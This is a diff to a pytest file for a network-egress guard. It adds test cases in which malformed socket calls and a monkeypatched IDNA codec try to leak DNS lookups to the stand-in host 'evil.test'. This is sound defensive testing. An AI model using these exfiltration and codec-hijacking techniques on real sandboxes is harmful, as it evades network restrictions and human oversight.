@@ -123,7 +123,40 @@ async def go():
            "os.wait(); socket.gethostbyname('x.' + EVIL)", "DNS evil.test"),
 ]  # fmt: skip
 
-ATTACKS = [*IN_EVERY_FORM, *SPELLINGS, *REVERSE, *CLIENTS]
+# The call fails, or succeeds, by itself: there is nothing to refuse, and the name must not leave on the way.
+MALFORMED = [
+    Attack(f"malformed: {title}", code, "DNS evil.test", raises=None)
+    for title, code in (
+        ("a flow label, connect", "udp(10).connect((EVIL, 80, 1 << 20))"),
+        ("a flow label, bind", "udp(10).bind((EVIL, 80, -1))"),
+        ("a flow label, sendto", "udp(10).sendto(b'x', (EVIL, 80, 1 << 20, 0))"),
+        ("a flow label, sendmsg", "udp(10).sendmsg([b'x'], [], 0, (EVIL, 80, 1 << 20))"),
+        ("a port", "udp().connect((EVIL, 65536))"),
+    )
+]
+
+# The lookups put every str through a codec that is Python code.
+CODEC = """
+import encodings.idna
+def evil(self, input, errors="strict"):
+    return b"evil.test", len(input)
+encodings.idna.Codec.encode.__code__ = evil.__code__
+"""
+CHANGED_CODEC = [
+    Attack(f"changed codec: {title}", code, "DNS evil.test", raises=None, may_ask=MAY_ASK,
+           may_dial=(" to 203.0.113.10 ", " to 2001:db8:a::"), where={"before": CODEC})
+    for title, code in (
+        ("a number", "socket.getaddrinfo('203.0.113.10', 443)"),
+        ("a listed name", "socket.getaddrinfo('api.anthropic.com', 443)"),
+        ("localhost", "socket.getaddrinfo('localhost', 443)"),
+        ("gethostbyname", "socket.gethostbyname('203.0.113.10')"),
+        ("gethostbyname_ex", "socket.gethostbyname_ex('api.anthropic.com')"),
+        ("gethostbyaddr", "socket.gethostbyaddr('api.anthropic.com')"),
+        ("create_connection", "socket.create_connection(('api.anthropic.com', 443), 2)"),
+    )
+]  # fmt: skip
+
+ATTACKS = [*IN_EVERY_FORM, *SPELLINGS, *REVERSE, *CLIENTS, *MALFORMED, *CHANGED_CODEC]
 
 
 @pytest.mark.parametrize("attack", ATTACKS, ids=str)
